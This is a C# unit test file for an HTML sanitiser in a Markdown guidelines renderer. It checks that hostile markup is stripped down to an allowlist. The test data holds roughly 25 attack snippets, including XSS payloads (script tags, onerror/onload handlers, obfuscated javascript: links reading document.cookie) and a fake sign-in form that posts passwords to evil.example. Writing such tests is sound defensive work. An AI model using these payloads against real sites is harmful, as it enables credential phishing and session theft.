using ValueAlign.Core.Annotation.Guidelines;

namespace ValueAlign.Tests.Annotation;

public sealed class GuidelinesRendererTests
{
    private readonly GuidelinesRenderer _renderer = new();

    [Fact]
    public void Markdown_is_rendered_with_tables_and_emphasis()
    {
        var html = _renderer.ToHtml("# Rules\n\n**Bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        Assert.Contains("<h1", html);
        Assert.Contains("<strong>Bold</strong>", html);
        Assert.Contains("<table>", html);
        Assert.Contains("<td>2</td>", html);
    }

    [Fact]
    public void Script_event_handlers_and_javascript_links_are_removed()
    {
        var html = _renderer.ToHtml("Hi <script>alert(1)</script><img src=x onerror=\"alert(2)\"> [x](javascript:alert(3))");
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Hi", html);
    }

    [Fact]
    public void Links_open_in_a_new_tab_without_opener()
    {
        var html = _renderer.ToHtml("See [docs](https://example.org/guide).");
        Assert.Contains("href=\"https://example.org/guide\"", html);
        Assert.Contains("target=\"_blank\"", html);
        Assert.Contains("rel=\"noopener noreferrer\"", html);
    }

    [Fact]
    public void Empty_guidelines_render_to_nothing()
    {
        Assert.Equal("", _renderer.ToHtml("  "));
        Assert.Equal("", _renderer.ToHtml(null));
    }
}

/// <summary>Hostile guidelines a curator (or a pasted document) might carry: the output keeps only the allowlist.</summary>
public sealed class GuidelinesSanitiserHostileSnippetTests
{
    private readonly GuidelinesRenderer _renderer = new();

    public static TheoryData<string, string, string> Snippets => new()
    {
        { "form overlay", "<form action=\"https://evil.example/steal\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\"><input name=\"password\" type=\"password\"><button>Sign in again</button></form>", "form" },
        { "positioned div", "<div style=\"position:absolute; top:0; left:0; z-index:10000; background:white\">Press 1 for every item</div>", "position" },
        { "z-index span", "<span style=\"z-index: 5; transform: translate(0,-200px)\">x</span>", "z-index" },
        { "class overlay", "<div class=\"mud-overlay mud-overlay-dialog\" id=\"app\">covered</div>", "mud-overlay" },
        { "javascript link", "[click](javascript:alert(document.cookie))", "javascript:" },
        { "mixed-case javascript href", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "alert(1)" },
        { "entity-encoded javascript href", "<a href=\"&#106;avascript:alert(1)\">x</a>", "alert(1)" },
        { "data URL link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "data:" },
        { "svg with script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script><circle r=\"10\"/></svg>", "svg" },
        { "svg onload", "<svg onload=\"alert(1)\"></svg>", "onload" },
        { "iframe", "<iframe src=\"https://evil.example/\" width=\"1000\" height=\"1000\"></iframe>", "iframe" },
        { "object and embed", "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">", "evil.swf" },
        { "script tag", "<script>fetch('/admin/users')</script>", "fetch(" },
        { "style block", "<style>.annotate-page{display:none}</style>", "display:none" },
        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "refresh" },
        { "base href", "<base href=\"https://evil.example/\">", "base" },
        { "link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "x.css" },
        { "img onerror", "<img src=\"x\" onerror=\"alert(1)\">", "onerror" },
        { "img javascript src", "<img src=\"javascript:alert(1)\">", "javascript:" },
        { "details ontoggle", "<details open ontoggle=\"alert(1)\"><summary>s</summary></details>", "ontoggle" },
        { "textarea and select", "<textarea>t</textarea><select><option>o</option></select>", "select" },
        { "button", "<button onclick=\"alert(1)\">Submit all</button>", "button" },
        { "task list checkbox", "- [x] done\n- [ ] todo", "checkbox" },
        { "math", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "onerror" },
        { "data attributes", "<p data-testid=\"submit\" data-enhance>p</p>", "data-" },
    };

    [Theory]
    [MemberData(nameof(Snippets))]
    public void Hostile_snippets_leave_only_allowlisted_markup(string name, string markdown, string mustNotContain)
    {
        var html = _renderer.ToHtml(markdown);
        Assert.DoesNotContain(mustNotContain, html, StringComparison.OrdinalIgnoreCase);
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<html><body>{html}</body></html>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.True(GuidelinesRenderer.AllowedTags.Contains(element.LocalName), $"{name}: <{element.LocalName}> survived: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(GuidelinesRenderer.AllowedAttributes.Contains(attribute.Name), $"{name}: attribute {attribute.Name} survived: {html}");
                if (attribute.Name == "style")
                {
                    Assert.Matches(@"^\s*(text-align:\s*(left|right|center)\s*;?\s*)?$", attribute.Value);
                }
                if (attribute.Name is "href" or "src")
                {
                    Assert.Matches(@"^(https?:|mailto:|[^:]*$)", attribute.Value);
                }
            }
        }
    }

    [Fact]
    public void Table_cell_alignment_and_safe_links_and_images_survive()
    {
        var html = _renderer.ToHtml("| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n[ok](https://example.org) ![pic](/media/a.png \"t\")");
        Assert.Contains("style=\"text-align: right\"", html);
        Assert.Contains("href=\"https://example.org\"", html);
        Assert.Contains("<img src=\"/media/a.png\" alt=\"pic\" title=\"t\">", html);
    }
}
